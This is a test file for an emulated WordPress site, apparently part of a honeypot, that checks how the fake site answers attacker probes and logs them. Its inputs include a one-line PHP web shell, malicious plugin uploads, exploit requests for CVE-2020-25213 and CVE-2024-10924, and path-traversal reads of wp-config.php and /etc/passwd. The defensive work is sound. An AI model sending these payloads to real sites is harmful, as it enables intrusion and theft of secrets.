import { afterEach, describe, expect, it } from 'vitest'
import wordpress from '../../../src/emulators/wordpress/index.ts'
import { encodeCall, type XmlRpcValue } from '../../../src/emulators/wordpress/xmlrpc-codec.ts'
import { packEntry, writeZip } from '../../../src/host/commands/zip/codec.ts'
import { type Playing, play } from '../../harness.ts'
import { type Asking, ask, findsOf, type Reply } from '../../http/ask.ts'
import { MemoryHosts } from '../../http/memory-hosts.ts'

let playing: Playing | undefined
afterEach(async () => {
  await playing?.stop()
  playing = undefined
})

const LOGIN = { accept: [{ user: 'admin', password: 'right' }], policy: 'list' }

async function blog(options: Record<string, unknown> = {}, hosts = new MemoryHosts()): Promise<Playing> {
  playing = await play(wordpress, {
    persona: 'plain',
    prompts: 'test/fixtures/prompts',
    hosts,
    options: { login: LOGIN, ...options },
    settings: { limits: { connectionsPerSource: 200 } },
  })
  return playing
}

const COOKIE = 'wordpress_test_cookie=WP%20Cookie%20check'
const form = (fields: Record<string, string>, cookie = COOKIE): Asking => ({
  headers: { 'Content-Type': 'application/x-www-form-urlencoded', Cookie: cookie },
  body: new URLSearchParams(fields).toString(),
})
const call = (method: string, ...params: XmlRpcValue[]): Asking => ({
  headers: { 'Content-Type': 'text/xml' },
  body: encodeCall({ method, params }),
})

function multipart(fields: Record<string, string>, name: string, filename: string, bytes: Buffer): Asking {
  const texts = Object.entries(fields).map(([key, value]) => `--b\r\nContent-Disposition: form-data; name="${key}"\r\n\r\n${value}\r\n`)
  const head = `--b\r\nContent-Disposition: form-data; name="${name}"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\n`
  return {
    headers: { 'Content-Type': 'multipart/form-data; boundary=b' },
    body: Buffer.concat([Buffer.from(texts.join('') + head), bytes, Buffer.from('\r\n--b--\r\n')]),
  }
}

async function signedIn(p: Playing): Promise<string> {
  const reply = await ask(p, 'POST', '/wp-login.php', form({ log: 'admin', pwd: 'right', testcookie: '1' }))
  expect([reply.status, reply.header('location')]).toEqual([302, 'http://www.test.lan/wp-admin/'])
  return /Set-Cookie: (wordpress_logged_in_[^;]+)/.exec(reply.head)![1]!
}

describe('the release', () => {
  it('is the same in every place that tells it', async () => {
    const p = await blog({ version: '6.7.2' })
    const pages = await Promise.all(['/', '/feed/', '/wp-links-opml.php', '/wp-login.php'].map((path) => ask(p, 'GET', path)))
    const told = pages.map(({ body }) =>
      [...body.matchAll(/WordPress[ /](\d\.\d+\.\d+)|\?v=(\d\.\d+\.\d+)|(?:style|login|buttons)\.min\.css\?ver=(\d\.\d+\.\d+)/g)].map(
        (match) => match[1] ?? match[2] ?? match[3],
      ),
    )
    for (const versions of told) expect(versions.length).toBeGreaterThan(0)
    expect([...new Set(told.flat())]).toEqual(['6.7.2'])
    expect((await ask(p, 'GET', '/readme.html')).body).not.toContain('6.7.2')
  })
})

describe('names of users', () => {
  it('are given away by number, by REST and by the sitemap, and each look is written down', async () => {
    const p = await blog()
    const first = await ask(p, 'GET', '/?author=1')
    expect([first.status, first.header('location'), first.header('x-redirect-by')]).toEqual([
      301,
      'http://www.test.lan/author/admin/',
      'WordPress',
    ])
    expect((await ask(p, 'GET', '/?author=9999')).status).toBe(404)
    const users = await ask(p, 'GET', '/wp-json/wp/v2/users')
    expect(
      users.head
        .split('\r\n')
        .slice(1)
        .map((line) => line.split(':')[0]),
    ).toEqual(
      expect.arrayContaining(['X-Robots-Tag', 'Link', 'X-Content-Type-Options', 'Access-Control-Expose-Headers', 'X-WP-Total', 'Allow']),
    )
    expect(JSON.parse(users.body)).toMatchObject([{ id: 1, slug: 'admin' }, { id: 2 }, { id: 3 }])
    expect(users.body).toContain('"link":"http:\\/\\/www.test.lan\\/author\\/admin\\/"')
    expect((await ask(p, 'GET', '/wp-sitemap-users-1.xml')).body).toContain('<loc>http://www.test.lan/author/admin/</loc>')
    expect(p.data('wordpress.probe')).toMatchObject([
      { kind: 'user', name: '1', found: true },
      { name: '9999', found: false },
      { name: '*' },
    ])
  })
})

describe('the login', () => {
  it('tells an unknown name from a wrong password, and both are written down', async () => {
    const p = await blog()
    expect((await ask(p, 'POST', '/wp-login.php', form({ log: 'nobody', pwd: 'x' }))).body).toContain(
      'The username <strong>nobody</strong> is not registered on this site.',
    )
    expect((await ask(p, 'POST', '/wp-login.php', form({ log: 'admin', pwd: '"><i>' }))).body).toContain(
      'The password you entered for the username <strong>admin</strong> is incorrect.',
    )
    expect((await ask(p, 'POST', '/wp-login.php', form({ log: 'admin', pwd: 'right', testcookie: '1' }, 'a=b'))).body).toContain(
      'Cookies are blocked',
    )
    expect(p.data('login')).toMatchObject([
      { method: 'form', username: 'nobody', accepted: false },
      { username: 'admin', password: '"><i>', accepted: false },
      { username: 'admin', password: 'right', accepted: false },
    ])
  })

  it('opens the dashboard with cookies that only it can make', async () => {
    const p = await blog()
    const cookie = await signedIn(p)
    expect((await ask(p, 'GET', '/wp-admin/', { headers: { Cookie: cookie } })).body).toContain(
      '<h1 class="wp-heading-inline">Dashboard</h1>',
    )
    const forged = cookie.replace(/admin/, 'nora')
    const sent = await ask(p, 'GET', '/wp-admin/users.php', { headers: { Cookie: forged } })
    expect([sent.status, sent.header('location')]).toEqual([
      302,
      'http://www.test.lan/wp-login.php?redirect_to=http%3A%2F%2Fwww.test.lan%2Fwp-admin%2Fusers.php&reauth=1',
    ])
    expect(p.data('wordpress.admin')).toMatchObject([{ user: 'admin', page: '/wp-admin/' }])
  })

  it('does not send to another site', async () => {
    const p = await blog()
    const reply = await ask(p, 'POST', '/wp-login.php', form({ log: 'admin', pwd: 'right', redirect_to: '//evil.example/' }))
    expect(reply.header('location')).toBe('http://www.test.lan/wp-admin/')
  })
})

describe('XML-RPC', () => {
  it('lists eighty methods and takes POST only', async () => {
    const p = await blog()
    const listed = (await ask(p, 'POST', '/xmlrpc.php', call('system.listMethods'))).body
    expect(listed.match(/<string>/g)).toHaveLength(80)
    expect(listed).toContain('  <value><string>pingback.ping</string></value>\n')
    const got = await ask(p, 'GET', '/xmlrpc.php')
    expect([got.status, got.header('allow'), got.body]).toEqual([405, 'POST', 'XML-RPC server accepts POST requests only.'])
  })

  it('refuses a wrong password with 403 in the words of WordPress 6', async () => {
    const p = await blog()
    const { body } = await ask(p, 'POST', '/xmlrpc.php', call('wp.getUsersBlogs', 'admin', 'x'))
    // Recorded from WordPress 6.1.9.
    expect(body).toBe(
      '<?xml version="1.0" encoding="UTF-8"?>\n<methodResponse>\n  <fault>\n    <value>\n      <struct>\n        <member>\n          <name>faultCode</name>\n          <value><int>403</int></value>\n        </member>\n        <member>\n          <name>faultString</name>\n          <value><string>Incorrect username or password.</string></value>\n        </member>\n      </struct>\n    </value>\n  </fault>\n</methodResponse>\n',
    )
  })

  it('plays every pair of a multicall; after a wrong one all that follow are wrong', async () => {
    const p = await blog()
    const pair = (password: string): XmlRpcValue => ({ methodName: 'wp.getUsersBlogs', params: ['admin', password] })
    const { body } = await ask(p, 'POST', '/xmlrpc.php', call('system.multicall', [pair('a'), pair('b'), pair('right')]))
    expect(body.match(/<name>faultCode<\/name><value><int>403/g)).toHaveLength(3)
    expect(p.data('login').map(({ password }) => password)).toEqual(['a', 'b', 'right'])
    expect(p.data('wordpress.xmlrpc')).toMatchObject([{ method: 'system.multicall', calls: 3 }])
    expect((await ask(p, 'POST', '/xmlrpc.php', call('wp.getUsersBlogs', 'admin', 'right'))).body).toContain(
      '<member><name>isAdmin</name><value><boolean>1</boolean></value></member>',
    )
  })

  it('fetches nothing for a pingback and keeps where it should have gone', async () => {
    const p = await blog()
    const { body } = await ask(p, 'POST', '/xmlrpc.php', call('pingback.ping', 'http://203.0.113.5/x', 'http://www.test.lan/'))
    expect(body).toContain('<value><int>0</int></value>')
    expect(p.data('indicator')).toMatchObject([{ kind: 'url', value: 'http://203.0.113.5/x' }])
  })
})

describe('what is brought into the site', () => {
  const SHELL = Buffer.from('<?php system($_GET["cmd"]); ?>')

  it('through the dashboard is kept, unpacked and run by the host', async () => {
    const hosts = new MemoryHosts()
    const p = await blog({}, hosts)
    const cookie = await signedIn(p)
    const zip = writeZip([packEntry('evil/evil.php', SHELL, 0o644, Date.UTC(2026, 0, 1))])
    const upload = multipart({ 'install-plugin-submit': 'Install Now' }, 'pluginzip', 'evil.zip', zip)
    const reply = await ask(p, 'POST', '/wp-admin/update.php?action=upload-plugin', {
      ...upload,
      headers: { ...upload.headers, Cookie: cookie },
    })
    expect(reply.body).toContain('Plugin installed successfully.')
    const ran = await ask(p, 'GET', '/wp-content/plugins/evil/evil.php?cmd=id')
    expect(ran.body).toBe("ran cd '/var/www/wordpress/wp-content/plugins/evil' && id as www-data\n")
    expect(p.data('wordpress.upload')).toMatchObject([{ path: '/wp-content/plugins/evil/evil.php', by: 'plugin' }])
    expect([...p.artifacts.kept.values()].some((bytes) => bytes.equals(SHELL))).toBe(true)
  })

  it('with the theme editor is what the theme is from then on', async () => {
    const p = await blog()
    const cookie = await signedIn(p)
    const saved = await ask(
      p,
      'POST',
      '/wp-admin/theme-editor.php',
      form({ newcontent: '<?php echo md5("s").(6*7);', file: '../../404.php', theme: 'twentytwentyfive' }, cookie),
    )
    expect(saved.status).toBe(302)
    expect((await ask(p, 'GET', '/wp-content/themes/twentytwentyfive/404.php')).body).toBe('03c7c0ace395d80182db07ae2c30f03442')
  })

  it('by nobody is sent to the login', async () => {
    const p = await blog()
    const reply = await ask(p, 'POST', '/wp-admin/update.php?action=upload-plugin', multipart({}, 'pluginzip', 'x.zip', Buffer.from('PK')))
    expect(reply.status).toBe(302)
    expect(p.data('wordpress.upload')).toEqual([])
    // The upload itself is evidence.
    expect(p.data('artifact')).toHaveLength(1)
  })

  it('through File Manager, for everybody (CVE-2020-25213)', async () => {
    const p = await blog()
    const reply = await ask(
      p,
      'POST',
      '/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php',
      multipart({ cmd: 'upload', target: 'l1_' }, 'upload[]', 's.php', SHELL),
    )
    expect(JSON.parse(reply.body)).toMatchObject({ added: [{ name: 's.php', size: '30' }] })
    expect((await ask(p, 'GET', '/wp-content/plugins/wp-file-manager/lib/files/s.php?cmd=id')).body).toContain('&& id as www-data')
    expect(p.events.find(({ type }) => type === 'wordpress.exploit')?.tags).toEqual(
      expect.arrayContaining(['cve:CVE-2020-25213', 'attack:T1505.003']),
    )
  })
})

describe('plug-ins', () => {
  it('are those that are installed, with versions, and no others', async () => {
    const p = await blog({ vulnerable: ['revslider'] })
    const stable = async (slug: string): Promise<string | undefined> =>
      /Stable tag: (\S+)/.exec((await ask(p, 'GET', `/wp-content/plugins/${slug}/readme.txt`)).body)?.[1]
    expect(await stable('contact-form-7')).toBe('6.1.1')
    expect(await stable('revslider')).toBe('4.1.4')
    expect(await stable('wp-file-manager')).toBe(undefined)
    const missing = await ask(p, 'GET', '/wp-content/plugins/zz-none/readme.txt')
    expect([missing.status, missing.body.includes('<title>Page not found')]).toEqual([404, true])
    expect(p.data('wordpress.probe').map(({ name, found }) => `${name} ${found}`)).toEqual([
      'contact-form-7 true',
      'revslider true',
      'wp-file-manager false',
      'zz-none false',
    ])
  })

  it('with a hole hand out the configuration with secrets of this install', async () => {
    const p = await blog({ vulnerable: ['revslider', 'mail-masta'] }, new MemoryHosts([['/etc/passwd', 'root:x:0:0::/root:/bin/sh\n']]))
    const config = (await ask(p, 'GET', '/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php')).body
    expect(config).toMatch(/'DB_PASSWORD', '[A-Za-z0-9]{14}'/)
    expect((await ask(p, 'GET', '/wp-content/plugins/mail-masta/inc/campaign/count_of_send.php?pl=/etc/passwd')).body).toBe(
      'root:x:0:0::/root:/bin/sh\n',
    )
  })

  it('answer 400 and 0 where they are not installed', async () => {
    const p = await blog({ vulnerable: [] })
    const reply: Reply = await ask(p, 'GET', '/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php')
    expect([reply.status, reply.body]).toEqual([400, '0'])
  })

  it('sign an attacker in who names a user (CVE-2024-10924)', async () => {
    const p = await blog({ vulnerable: ['really-simple-ssl'] })
    const reply = await ask(p, 'POST', '/?rest_route=/reallysimplessl/v1/two_fa/skip_onboarding', {
      headers: { 'Content-Type': 'application/json' },
      body: '{"user_id":1,"login_nonce":"x","redirect_to":"/wp-admin/"}',
    })
    expect(reply.head).toMatch(/Set-Cookie: wordpress_logged_in_[0-9a-f]{32}=admin%7C/)
  })
})

describe('recorded probes', () => {
  it('for WordPress find this site, all others find nothing', async () => {
    const p = await blog()
    // The recorded probe for the readme looks below /blog/wp/, its two alternatives at the root.
    expect((await ask(p, 'GET', '/readme.html')).body).toContain('WordPress &#8250; ReadMe')
    expect(await findsOf(p)).toEqual(['wordpress-login', 'wordpress-xmlrpc-listmethods', 'wp-random-plugin-404', 'wp-revslider'])
    expect(p.data('login')).toMatchObject([{ method: 'xmlrpc', username: 'admin', password: 'letmein' }])
    expect(p.data('lure.fault')).toEqual([])
    expect(p.deadLetters).toEqual([])
  }, 30_000)
})
